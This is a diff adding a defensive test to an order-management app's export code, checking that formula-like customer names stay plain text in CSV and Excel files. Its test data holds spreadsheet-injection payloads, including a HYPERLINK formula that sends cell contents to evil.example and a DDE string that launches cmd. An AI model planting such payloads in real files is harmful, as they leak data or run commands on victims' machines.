@@ -76,3 +76,29 @@ def test_excel_headers_in_chinese(shop_uow: UnitOfWork, tmp_path: Path) -> None:
     assert [c.value for c in sheet[1]][:3] == ["指标", "类型", "本期"]
     sales = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "sales")
     assert (D(str(sales[2].value)), sales[2].number_format) == (D("735.81"), "0.00")
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
+
+
+def test_a_name_that_is_a_formula_stays_text_in_csv_and_excel(tmp_path: Path) -> None:
+    """OWASP's CSV injection: a customer called =HYPERLINK(...) must not become a live formula anywhere it is
+    exported, while real numbers (a refund's -12.50) keep their sign."""
+    from oms_desktop.exports.tables import Column, Kind, Table
+
+    table = Table(
+        "customers",
+        [Column("name", Kind.TEXT), Column("total", Kind.MONEY)],
+        [[name, D("-12.50")] for name in HOSTILE] + [["张伟", D("8.00")]],
+    )
+    out = io.StringIO()
+    write_csv(table, out)
+    rows = list(csv.reader(io.StringIO(out.getvalue())))[1:]
+    assert [r[0] for r in rows] == ["'" + name for name in HOSTILE] + ["张伟"]
+    assert {r[1] for r in rows} == {"-12.50", "8.00"}
+
+    sheet = openpyxl.load_workbook(save_xlsx([table], tmp_path / "c.xlsx"))["customers"]
+    names = [sheet.cell(row=i, column=1) for i in range(2, 2 + len(HOSTILE))]
+    assert [c.value for c in names] == HOSTILE and {c.data_type for c in names} == {"s"}
+    with zipfile.ZipFile(tmp_path / "c.xlsx") as book:
+        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()  # no formula stored at all
